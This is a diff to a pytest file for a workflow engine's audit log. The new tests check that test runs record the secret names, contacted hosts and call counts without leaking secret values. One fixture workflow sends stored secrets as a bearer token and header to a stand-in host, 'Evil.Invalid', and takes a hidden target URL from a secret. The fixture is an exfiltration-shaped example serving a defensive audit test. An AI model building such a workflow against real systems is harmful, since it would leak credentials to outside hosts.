@@ -4,6 +4,9 @@ from __future__ import annotations
 
 import pytest
 
+from connectors.builtin.http import HttpConnector
+from engine.errors import UserError
+
 BOOK, BALANCE = "connector:bank:book", "connector:bank:balance"
 FLOW = {"StartAt": "Look", "States": {
     "Look": {"Type": "Task", "Resource": BALANCE, "Parameters": {}, "ResultPath": "$.look", "Next": "Book"},
@@ -55,10 +58,53 @@ def test_what_was_really_called_is_in_the_audit_log_and_nothing_else_is(bank):
     document = {"name": "pay", "definition": FLOW}
     bank("POST", "/test/run", {"document": document, "input": {"amount": 5}, "use_reads": True, "allow": [BOOK]})
     entry, = bank("GET", "/audit?act=workflow.test").json["entries"]
-    assert (entry["subject"], entry["actor"], entry["after"]) == (
-        "workflow/pay", "ada", {"called": [BALANCE, BOOK], "calls": 2},
+    after = entry["after"]
+    assert (entry["subject"], entry["actor"], after["called"], after["calls"]) == (
+        "workflow/pay", "ada", [BALANCE, BOOK], 2,
     )
+    assert (after["secrets"], after["hosts"]) == ([], [])
     assert bank("GET", "/executions").json["executions"] == []
+
+
+CALLS = {"StartAt": "Send", "States": {
+    "Send": {"Type": "Task", "Resource": "connector:http:request", "Next": "Hidden", "ResultPath": None, "Parameters": {
+        "url": "http://someone:in@Evil.Invalid:8443/x?next=https://not-called.invalid/", "json": "https://no.invalid",
+        "bearer_token": {"$secret": "KEY"}, "headers": {"x-b": {"$secret": "OTHER"}}, "timeout_seconds": 0.2,
+    }},
+    "Hidden": {"Type": "Task", "Resource": "connector:http:request", "Next": "Book", "ResultPath": None,
+               "Parameters": {"url": {"$secret": "PLACE"}}},
+    "Book": {"Type": "Task", "Resource": BOOK, "End": True, "Parameters": {
+        "key": {"$secret": "KEY"}, "amount": {"of": ["ftp://files.invalid/a", "no address"]},
+    }},
+}}
+
+
+def test_the_audit_entry_names_secrets_hosts_and_the_definition(bank, monkeypatch):
+    monkeypatch.setattr(HttpConnector, "execute", lambda *_: {"status": 200})
+    bank.secrets.values.update(KEY="sk-canary-0815", OTHER="canary-other-1", PLACE="http://canary.invalid")
+    reply = bank("POST", "/test/run", {"definition": CALLS, "allow": ["connector:http:request", BOOK]})
+    assert reply.json["status"] == "SUCCEEDED", reply.text
+    listed = bank("GET", "/audit?act=workflow.test")
+    after = listed.json["entries"][0]["after"]
+    assert after["secrets"] == ["KEY", "OTHER", "PLACE"]
+    assert after["hosts"] == ["evil.invalid:8443", "(the secret PLACE)", "files.invalid"]
+    assert (after["called"], after["calls"]) == (["connector:http:request", BOOK], 3)
+    assert "canary" not in listed.text
+    assert "someone" not in listed.text
+    bank.publish("same", CALLS)  # what was tested can be found again by its digest
+    published, = bank("GET", "/audit?act=workflow.publish").json["entries"]
+    assert published["after"]["definition_digest"] == after["definition_digest"]
+
+
+def test_a_test_that_breaks_off_after_a_call_is_recorded_too(bank, monkeypatch):
+    def broken(*_, **__):
+        raise UserError("it broke")
+
+    monkeypatch.setattr("engine.testing.trial._tried", broken)
+    assert bank("POST", "/test/run", {"definition": FLOW, "input": {"amount": 5}, "use_reads": True,
+                                      "allow": [BOOK]}).status == 400
+    entry, = bank("GET", "/audit?act=workflow.test").json["entries"]
+    assert entry["after"]["called"] == [BALANCE, BOOK]
 
 
 def test_a_secret_is_resolved_for_the_call_and_in_no_answer(bank):
